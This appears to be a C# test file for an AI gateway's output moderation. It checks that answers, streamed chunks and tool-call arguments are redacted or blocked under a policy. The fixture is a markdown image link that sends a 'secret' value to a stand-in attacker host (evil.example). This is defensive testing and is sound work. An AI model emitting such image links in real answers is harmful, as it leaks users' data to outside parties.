using System.Text;
using System.Text.Json;
using Microsoft.Extensions.AI;
using SomaStack.Governance.Policy;
using SomaStack.Governance.Policy.Contracts;
using SomaStack.Intelligence.Inference;
using SomaStack.Platform;
using SomaStack.Tests.Policy;

namespace SomaStack.Tests.Inference;

/// <summary>What leaves of an answer, under the starter policy's rules and one that drops.</summary>
public sealed class OutputWatchTests
{
    private const string Image = "![x](https://evil.example/p?d=secret)";

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_clean_answer_is_the_very_memory_that_came()
    {
        ReadOnlyMemory<byte> body = Encoding.UTF8.GetBytes("""{"choices":[{"message":{"content":"All well."}}]}""");
        Assert.True((await Watch().WholeAsync(body, Stop)).Equals(body));
        ReadOnlyMemory<byte> piece = Event("""{"choices":[{"index":0,"delta":{"content":"All"}}]}""");
        Assert.True((await Watch().EventAsync(piece, Stop)).Equals(piece));
    }

    [Theory]
    [InlineData("{\"choices\":[{\"message\":{\"content\":\"see IMG ok\"}}]}")]
    [InlineData("{\"choices\":[{\"message\":{\"content\":null,\"tool_calls\":[{\"function\":{\"name\":\"f\",\"arguments\":\"IMG\"}}]}}]}")]
    [InlineData("{\"type\":\"message\",\"content\":[{\"type\":\"text\",\"text\":\"IMG\"}]}")]
    [InlineData("{\"type\":\"message\",\"content\":[{\"type\":\"tool_use\",\"input\":{\"deep\":{\"any\":[\"IMG\"]}}}]}")]
    [InlineData("{\"object\":\"response\",\"instructions\":\"stay\",\"output\":[{\"type\":\"message\",\"content\":[{\"type\":\"output_text\",\"text\":\"IMG\"}]}]}")]
    public async Task A_whole_answer_is_redacted_where_it_speaks(string shape)
    {
        var left = Encoding.UTF8.GetString((await Watch().WholeAsync(Encoding.UTF8.GetBytes(shape.Replace("IMG", Image, StringComparison.Ordinal)), Stop)).Span);
        Assert.Equal(shape.Replace("IMG", "[redacted]", StringComparison.Ordinal), left);
    }

    [Fact]
    public async Task Probabilities_that_repeat_a_redacted_text_go_with_it()
    {
        var body = $$$"""{"choices":[{"logprobs":{"content":[{"token":"{{{Image}}}"}]},"message":{"content":"{{{Image}}}"}}]}""";
        using var left = JsonDocument.Parse(await Watch().WholeAsync(Encoding.UTF8.GetBytes(body), Stop));
        var choice = left.RootElement.GetProperty("choices")[0];
        Assert.Equal((JsonValueKind.Null, "[redacted]"), (choice.GetProperty("logprobs").ValueKind, choice.GetProperty("message").GetProperty("content").GetString()));
    }

    [Theory]
    [InlineData(1)]
    [InlineData(5)]
    [InlineData(1000)]
    public async Task A_match_that_pieces_part_is_not_completed(int size)
    {
        var (watch, seen) = (Watch(), new StringBuilder());
        var text = "Look: " + Image + " and on.";
        for (var at = 0; at < text.Length; at += size)
        {
            var piece = text.Substring(at, Math.Min(size, text.Length - at));
            using var sent = JsonDocument.Parse(EventRelay.DataOf(await watch.EventAsync(Event($$$"""{"choices":[{"index":0,"delta":{"content":"{{{piece}}}"}}]}"""), Stop)));
            seen.Append(sent.RootElement.GetProperty("choices")[0].GetProperty("delta").GetProperty("content").GetString());
        }
        Assert.DoesNotContain(Image, seen.ToString(), StringComparison.Ordinal);
        Assert.Contains("[redacted]", seen.ToString(), StringComparison.Ordinal);
        if (size == 1) Assert.EndsWith(" and on.", seen.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Choices_are_read_apart_and_a_repeated_text_alone()
    {
        var watch = Watch(Dropping);
        ReadOnlyMemory<byte> purple = Event("""{"choices":[{"index":0,"delta":{"content":"purple "}}]}"""), zebra = Event("""{"choices":[{"index":1,"delta":{"content":"zebra"}}]}""");
        Assert.True((await watch.EventAsync(purple, Stop)).Equals(purple));
        Assert.True((await watch.EventAsync(zebra, Stop)).Equals(zebra));
        await Assert.ThrowsAsync<Problem>(async () => await watch.EventAsync(Event("""{"choices":[{"index":0,"delta":{"content":"zebra"}}]}"""), Stop));
        var responses = Watch();
        await responses.EventAsync(Event("""{"type":"response.output_text.delta","delta":"fine","output_index":0}"""), Stop);
        Assert.Contains("[redacted]", Encoding.UTF8.GetString((await responses.EventAsync(Event($$"""{"type":"response.output_text.done","text":"{{Image}}","output_index":0}"""), Stop)).Span), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_rule_that_drops_stops_the_answer_with_its_reason()
    {
        var problem = await Assert.ThrowsAsync<Problem>(async () => await Watch(Dropping).WholeAsync(Encoding.UTF8.GetBytes("""{"choices":[{"message":{"content":"a purple zebra"}}]}"""), Stop));
        Assert.Equal(("moderation_blocked", "no-zebra"), (problem.Code.Code, problem.Reasons.Single().Rule));
        Assert.True(OutputWatch.Stops(problem));
        Assert.Equal("[redacted]", Encoding.UTF8.GetString((await Watch().TextAsync(Encoding.UTF8.GetBytes(Image), Stop)).Span));
    }

    [Fact]
    public async Task A_clients_update_is_redacted_in_place()
    {
        var call = new FunctionCallContent("c", "f", new Dictionary<string, object?> { ["url"] = Image, ["n"] = 1 });
        var update = new ChatResponseUpdate(ChatRole.Assistant, [new TextContent(Image), call]);
        await Watch().UpdateAsync(update, Stop);
        Assert.Equal(("[redacted]", "[redacted]", 1), (update.Text, call.Arguments!["url"], call.Arguments["n"]));
    }

    private static OutputWatch Watch(Func<string, string>? change = null)
    {
        var text = StarterPolicy.Text();
        return new OutputWatch(new RulesAlone(PolicyDeciderTests.InForce(change is null ? text : change(text)).Policy!), RequestContext.ForSystem("demo", DeploymentMode.Test));
    }

    private static string Dropping(string policy) => policy.Replace(
        "\"id\": \"override-instructions\"",
        "\"id\":\"no-zebra\",\"category\":\"secret\",\"severity\":\"low\",\"stages\":[\"output\"],\"effect\":\"drop\",\"patterns\":[\"purple zebra\"],\"message\":\"m\",\"remedy\":\"r\"},{\"id\": \"override-instructions\"", StringComparison.Ordinal);

    private static byte[] Event(string data) => Encoding.UTF8.GetBytes($"data: {data}\n\n");

    /// <summary>The rules over output as the room applies them, without its database.</summary>
    private sealed class RulesAlone(CompiledPolicy policy) : IModeration
    {
        public bool DetectsOutput => false;

        public ValueTask<ModerationResult> GuardAsync(RequestContext context, string text, CancellationToken cancellationToken)
        {
            var found = ModerationRules.LookForActs(policy, text);
            return ValueTask.FromResult(new ModerationResult(found.Dropped, false, 0, [.. found.Rules.Select(static rule => ModerationRules.Why(rule, 1))], found.Redacted));
        }

        public Task<ModerationResult> CheckAsync(RequestContext context, ModerationStage stage, string text, CancellationToken cancellationToken) => throw new NotSupportedException();

        public Task<ScreenResult> ScreenAsync(RequestContext context, IReadOnlyList<ScreenText> texts, CancellationToken cancellationToken) => throw new NotSupportedException();

        public Task<ModerationResult> DetectOutputAsync(RequestContext context, string text, CancellationToken cancellationToken) => throw new NotSupportedException();
    }
}
